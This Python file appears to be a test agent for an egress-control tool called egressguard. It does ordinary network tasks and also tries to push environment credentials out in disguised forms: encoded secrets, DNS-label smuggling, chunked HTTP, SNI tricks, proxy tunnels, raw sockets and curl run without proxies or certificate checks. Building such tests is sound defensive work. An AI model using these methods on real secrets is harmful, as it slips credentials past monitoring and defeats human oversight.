"""The sample agent: does what each line on standard input says, answers with one line each.

A plain program that knows nothing of egressguard: standard library only, ordinary sockets, no
proxy settings. It carries credentials in its environment, as agents do. It never prints them.
"""

from __future__ import annotations

import base64
import errno
import gzip
import http.client
import json
import os
import re
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

TIMEOUT = 5.0
REASON = "X-Egressguard-Reason"
LABEL = 40

_MOVED = {
    ord(each): signs[(at + 5) % len(signs)]
    for signs in ("abcdefghijklmnopqrstuvwxyz", "ABCDEFGHIJKLMNOPQRSTUVWXYZ", "0123456789")
    for at, each in enumerate(signs)
}

FORMS: dict[str, Callable[[str], str]] = {
    "": lambda text: text,
    "percent-twice": lambda text: "".join(f"%25{ord(letter):02X}" for letter in text),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "hex": lambda text: text.encode().hex(),
    "base32": lambda text: base64.b32encode(text.encode()).decode().rstrip("=").lower(),
    "escapes": lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
    # No scanner can know it: every letter and digit moved on by five.
    "enciphered": lambda text: text.translate(_MOVED),
}
"""How a credential is written down before it is sent."""


class RefusedError(Exception):
    """The network said no; the text is what the agent saw."""


# Leaks


def leak(task: dict[str, Any]) -> str:
    """Try to get one credential out; what came back."""
    secret = FORMS[task.get("form", "")](os.environ[task["key"]])
    labels = ".".join(secret[at : at + LABEL] for at in range(0, len(secret), LABEL))

    def filled(value: Any) -> Any:
        if isinstance(value, str):
            return value.replace("{key}", secret).replace("{labels}", labels)
        if isinstance(value, list):
            return [filled(item) for item in value]
        return value

    return WAYS[task["way"]]({name: filled(value) for name, value in task.items()})


def over_http(task: dict[str, Any]) -> str:
    """One request over a connection of its own, written by hand so that it can be bent."""
    url = urlsplit(task["url"])
    port = url.port or (443 if url.scheme == "https" else 80)
    with dial(task.get("address") or url.hostname, port) as plain:
        if proxied := task.get("through_tunnel"):
            open_tunnel(plain, proxied)
            return exchange(secured(plain, proxied, task), proxied, task)
        end = secured(plain, url.hostname or "", task) if url.scheme == "https" else plain
        return exchange(end, task.get("host") or url.netloc, task)


def exchange(end: socket.socket, host: str, task: dict[str, Any]) -> str:
    """Send the request, read the response."""
    url = urlsplit(task["url"])
    path = (url.path or "/") + (f"?{url.query}" if url.query else "")
    body = task.get("body", "").encode()
    if task.get("gzip"):
        body = gzip.compress(body)
    pieces = [body]
    fields = [f"Host: {host}", "User-Agent: agent/1.0", *task.get("fields", [])]
    if cut := task.get("cut"):
        fields.append("Transfer-Encoding: chunked")
        cuts = [body[at : at + cut] for at in range(0, len(body), cut)]
        trailer = "".join(f"{line}\r\n" for line in task.get("trailers", []))
        pieces = [b"%x\r\n%b\r\n" % (len(each), each) for each in cuts]
        pieces.append(b"0\r\n" + trailer.encode() + b"\r\n")
    elif body and not task.get("own_framing"):
        fields.append(f"Content-Length: {len(body)}")
    method = task.get("method") or ("POST" if body else "GET")
    head = "\r\n".join([f"{method} {path} HTTP/1.1", *fields, "", ""])
    try:
        end.sendall(head.encode())
        for piece in pieces:
            end.sendall(piece)
            time.sleep(0.002)  # so that each piece is a packet of its own
    except OSError:
        pass  # refused early: the answer is waiting
    return read_response(end, method)


def read_response(end: socket.socket, method: str) -> str:
    """Status and reason of a response."""
    response = http.client.HTTPResponse(end, method=method)
    try:
        response.begin()
        response.read()
    except (http.client.BadStatusLine, http.client.IncompleteRead):
        raise RefusedError("closed unanswered") from None
    if reason := response.headers.get(REASON):
        raise RefusedError(f"{response.status} {reason}")
    return str(response.status)


def dial(host: str, port: int) -> socket.socket:
    """Connect to a name or an address."""
    return socket.create_connection((host, port), TIMEOUT)


def secured(end: socket.socket, name: str, task: dict[str, Any]) -> ssl.SSLSocket:
    """TLS with the system's trust, asking for `sni` if that is another name."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["http/1.1"])
    if task.get("trusts_anyone"):
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(end, server_hostname=task.get("sni") or name)


def open_tunnel(end: socket.socket, host: str) -> None:
    """Ask a proxy for a tunnel (RFC 9110, section 9.3.6)."""
    end.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        piece = end.recv(1)
        if not piece:
            raise RefusedError("closed unanswered")
        answer += piece
    status = answer.split(b" ")[1].decode()
    if status != "200":
        said = re.search(rb"(?i)\r\nx-egressguard-reason: *(\w+)", answer)
        raise RefusedError(f"{status} {said.group(1).decode() if said else 'by the proxy'}")


def over_dns(task: dict[str, Any]) -> str:
    """One question, written by hand; to the system's resolver unless another is named."""
    resolver = task.get("resolver") or system_resolver()
    labels = task["name"].split(".")
    question = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    message = struct.pack(">HHHHHH", 4711, 0x0100, 1, 0, 0, 0) + question + b"\0\1\0\1"
    if task.get("over") == "tcp":
        with dial(resolver, 53) as end:
            end.sendall(struct.pack(">H", len(message)) + message)
            reply = end.recv(4096)[2:]
    else:
        reply = datagram(resolver, 53, message, 3.0)
    if not reply:
        raise RefusedError("closed unanswered")
    if reply[:2] != message[:2]:
        return "answered"
    rcode = reply[3] & 15
    if rcode:
        raise RefusedError(
            {3: "NXDOMAIN", 5: "REFUSED", 2: "SERVFAIL"}.get(rcode, f"rcode {rcode}")
        )
    return "NOERROR"


def system_resolver() -> str:
    """First name server of resolv.conf."""
    found = re.search(r"(?m)^nameserver\s+(\S+)", Path("/etc/resolv.conf").read_text("utf-8"))
    return found.group(1) if found else "127.0.0.1"


def over_tcp(task: dict[str, Any]) -> str:
    """Bytes to a port, no protocol at all."""
    with dial(task["address"], task["port"]) as end:
        end.sendall(task["body"].encode() + b"\n")
        if not end.recv(100):
            raise RefusedError("closed unanswered")
    return "connected"


def over_udp(task: dict[str, Any]) -> str:
    """One packet."""
    datagram(task["address"], task["port"], task["body"].encode(), 0.5)
    return "answered"


def datagram(address: str, port: int, data: bytes, patience: float) -> bytes:
    """Send a packet, wait for the answer."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as end:
        end.settimeout(patience)
        end.connect((address, port))
        end.send(data)
        return end.recv(4096)


def over_curl(task: dict[str, Any]) -> str:
    """Another program with another TLS stack, told to ignore proxies and certificates."""
    bare = {name: text for name, text in os.environ.items() if "proxy" not in name.lower()}
    words = ["curl", "-sS", "-k", "--noproxy", "*", "-m", "5", "-D", "-", "-o", os.devnull]
    done = subprocess.run(
        [*words, "-T", "-", task["url"]],
        input=task["body"].encode(),
        env=bare,
        capture_output=True,
        check=False,
    )
    if done.returncode:
        raise RefusedError(f"curl: exit {done.returncode}")
    head = done.stdout.decode("latin-1")
    status = re.findall(r"(?m)^HTTP/\S+ (\d+)", head)[-1]
    if said := re.search(rf"(?im)^{REASON}: *(\w+)", head):
        raise RefusedError(f"{status} {said.group(1)}")
    return str(status)


WAYS: dict[str, Callable[[dict[str, Any]], str]] = {
    "http": over_http,
    "dns": over_dns,
    "tcp": over_tcp,
    "udp": over_udp,
    "curl": over_curl,
}


# Honest work


def fetched(url: str, data: bytes | None = None, **fields: str) -> bytes:
    """Body of a response, as any program fetches it."""
    request = urllib.request.Request(url, data, fields)
    with urllib.request.urlopen(request, timeout=TIMEOUT) as response:
        return bytes(response.read())


def get_json(task: dict[str, Any]) -> str:
    """Read an API."""
    return str(json.loads(fetched(task["url"]))["method"])


def post_json(task: dict[str, Any]) -> str:
    """Write to an API."""
    note = json.dumps({"title": "Quarterly report", "lines": list(range(200))}).encode()
    headers = {"Content-Type": "application/json"}
    size = json.loads(fetched(task["url"], note, **headers))["size"]
    return f"{size} B taken" if size == len(note) else ""


def stream(task: dict[str, Any]) -> str:
    """Read a response that comes in chunks."""
    lines = fetched(task["url"]).splitlines()
    return f"{len(lines)} lines" if len(lines) == task["lines"] else ""


def git_clone(task: dict[str, Any]) -> str:
    """Clone a repository."""
    place = tempfile.mkdtemp()
    try:
        done = subprocess.run(
            ["git", "clone", "-q", task["url"], f"{place}/clone"],
            capture_output=True,
            check=False,
        )
        count = len(list(Path(place, "clone").glob("[!.]*"))) if done.returncode == 0 else 0
        return f"{count} files" if count else ""
    finally:
        shutil.rmtree(place)


def look_up(task: dict[str, Any]) -> str:
    """Resolve a name."""
    found = {entry[4][0] for entry in socket.getaddrinfo(task["name"], 443)}
    return f"{len(found)} addresses"


def own_key(task: dict[str, Any]) -> str:
    """Use a credential where it belongs."""
    secret = os.environ[task["key"]]
    seen = json.loads(fetched(task["url"], Authorization=f"Bearer {secret}"))["fields"]
    return "accepted" if ["authorization", f"Bearer {secret}"] in seen else ""


WORK: dict[str, Callable[[dict[str, Any]], str]] = {
    "get-json": get_json,
    "post-json": post_json,
    "stream": stream,
    "git-clone": git_clone,
    "look-up": look_up,
    "own-key": own_key,
}


def perform(task: dict[str, Any]) -> dict[str, Any]:
    """Do one task; `done` tells whether it worked, `saw` what the agent saw."""
    try:
        honest = WORK.get(task["way"])
        saw = honest(task) if honest else leak(task)
        return {"id": task["id"], "done": bool(saw), "saw": saw or "a wrong answer"}
    except urllib.error.HTTPError as error:
        return failed(task, f"{error.code} {error.headers.get(REASON, '')}".strip())
    except (RefusedError, urllib.error.URLError) as error:
        return failed(task, str(error))
    except TimeoutError:
        return failed(task, "no answer")
    except ssl.SSLError as error:
        return failed(task, f"TLS: {error.reason or 'closed'}")
    except OSError as error:
        return failed(task, errno.errorcode.get(error.errno or 0, type(error).__name__))


def failed(task: dict[str, Any], saw: str) -> dict[str, Any]:
    """Answer for what did not work."""
    return {"id": task["id"], "done": False, "saw": saw}


def main() -> None:
    """Answer line by line until the input ends."""
    for line in sys.stdin:
        print(json.dumps(perform(json.loads(line))), flush=True)


if __name__ == "__main__":
    main()
